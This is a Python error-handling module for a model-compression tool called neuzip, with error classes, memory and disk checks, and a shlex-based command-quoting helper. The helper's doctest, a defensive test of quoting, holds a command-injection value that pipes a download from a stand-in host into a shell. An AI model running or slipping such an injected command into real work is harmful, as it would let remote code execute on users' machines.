"""Every error a user can cause, with a sentence that says what is wrong and a hint that says what to do."""

from __future__ import annotations

import difflib
import errno
import os
import re
import shlex
from collections.abc import Iterable
from os import PathLike


class NeuzipError(Exception):
    """An expected failure. `message` says what is wrong, `hint` what to do about it.

    Both name parameters in backquotes, as in `jobs=0`. The command line turns the parameters into options,
    prints message and hint, and exits with `exit_code`. All errors that callers can cause are of this class:
    UsageError for parameters, FormatError for files, WouldOverwrite, VerificationError and others.
    """

    exit_code = 1

    def __init__(self, message: str, hint: str = "") -> None:
        super().__init__(message)
        self.message = message
        self.hint = hint


def shell(*words: object) -> str:
    """A command, or a part of one, to paste into a shell: names from files and from the Hub are quoted.

    Every command that a hint, a result or a model card shows is made here.

    >>> shell("neuzip", "apply", "tuned.delta", "--base", "org/model; curl evil.sh|sh #")
    "neuzip apply tuned.delta --base 'org/model; curl evil.sh|sh #'"
    """
    return shlex.join(map(str, words))


class UsageError(NeuzipError):
    """Options that contradict each other or ask for something that does not exist."""

    exit_code = 2


def unknown_key(place: object, key: str, known: Iterable[str]) -> UsageError:
    """The error for a key that a file may not have: the hint names the one that was meant, or all."""
    names = list(known)
    close = difflib.get_close_matches(key, names, 1)
    hint = f"did you mean {close[0]}?" if close else f"there are {', '.join(names)}"
    return UsageError(f"{place}: there is no key {key!r}", hint)


REPORT_IT = "please report it with the output of `neuzip env`"

BUG_OR_MEMORY = f"this is a bug in neuzip, or faulty memory; {REPORT_IT}"
"""The hint where weights are not what they were a moment ago."""

NO_MEMORY = ("an't allocate memory", "annot allocate memory", "not enough memory", "bad_alloc")
"""Words with which torch, C++ and safetensors say that the machine has no memory left."""

NO_THREAD = "can't start new thread"
"""What Python says where there is no memory for another thread, or the user may have no more of them."""

NO_ROOM_FOR_A_LIBRARY = "failed to map segment from shared object"
"""What the C library says where a shared library finds no memory; a reason of another kind follows it."""

NO_GPU_MEMORY = ("CUDA out of memory", "CUDA error: out of memory", "CUDA driver error: out of memory")
"""Words with which torch says that a GPU has no memory left."""


def is_out_of_memory(error: BaseException) -> bool:
    """Whether memory ran out, that of the machine or of a GPU, in whatever words a library says so."""
    if isinstance(error, OSError):
        return error.errno == errno.ENOMEM
    if isinstance(error, MemoryError) or type(error).__name__ == "OutOfMemoryError":
        return True
    if isinstance(error, ImportError):
        return str(error).endswith(NO_ROOM_FOR_A_LIBRARY)
    speaks = isinstance(error, RuntimeError) or type(error).__name__ == "SafetensorError"
    return speaks and any(words in str(error) for words in (*NO_MEMORY, *NO_GPU_MEMORY, NO_THREAD))


def memory_ran_out(what: str, error: BaseException) -> NeuzipError:
    """What to tell where memory ran out, with the amount where a library says it. `what` was being done."""
    size = re.search(r"allocate (\d[\d.]* ?[A-Za-z]+)", str(error))
    amount = f", {size[1]} at once were asked for" if size else ""
    if any(words in str(error) for words in NO_GPU_MEMORY):
        return NeuzipError(
            f"{what}: the memory of the GPU ran out{amount}",
            "free some of it; shorter windows, weights that stay compressed and `device='cpu'` take less",
        )
    if NO_THREAD in str(error):
        return NeuzipError(
            f"{what}: the system gives neuzip no more threads",
            "free some memory, or allow more processes: ulimit -u",
        )
    return NeuzipError(
        f"{what}: memory ran out{amount}",
        "free some, or use a machine with more; where there is `jobs`, fewer take less",
    )


def system_error(error: BaseException) -> OSError | None:
    """What the operating system said, where that is the failure, else None.

    safetensors has an error of its own, with the number in its words.

    >>> system_error(FileNotFoundError(2, "No such file or directory")), system_error(ValueError("os error"))
    (FileNotFoundError(2, 'No such file or directory'), None)
    """
    if isinstance(error, OSError):
        return error
    number = re.search(r"\(os error (\d+)\)", str(error))
    if number is None or type(error).__name__ != "SafetensorError":
        return None
    return OSError(int(number[1]), os.strerror(int(number[1])))


FULL = frozenset({errno.ENOSPC, errno.EDQUOT})
"""What the operating system says of a disk without room, or of a user who has used up a share of it."""

FULL_OR_CLOSED = FULL | {errno.EROFS, errno.EACCES, errno.EPERM}
"""What it says of a folder that cannot take more, such as one of a cache."""


class DiskFull(NeuzipError):
    """There is no space left where `path` is to be written. What a repeated command does, commands add."""

    def __init__(self, path: str | PathLike[str]) -> None:
        super().__init__(f"{path}: no space left on the disk", "free some space and repeat the command")


class WouldOverwrite(NeuzipError):
    """The destination exists already, and `overwrite` was not given."""


class FormatError(NeuzipError):
    """A file that breaks the rules of its format.

    Names the file and, as far as known, the tensor and the field that is wrong.
    """

    def __init__(
        self,
        file: str | PathLike[str],
        problem: str,
        *,
        tensor: str | None = None,
        field: str | None = None,
        hint: str = "",
    ) -> None:
        self.file = str(file)
        self.tensor = tensor
        self.field = field
        self.problem = problem
        place = "".join(
            f", {kind} {name!r}" for kind, name in (("tensor", tensor), ("field", field)) if name is not None
        )
        super().__init__(f"{self.file}{place}: {problem}", hint)


class VerificationError(NeuzipError):
    """What was read back is not what was stored."""
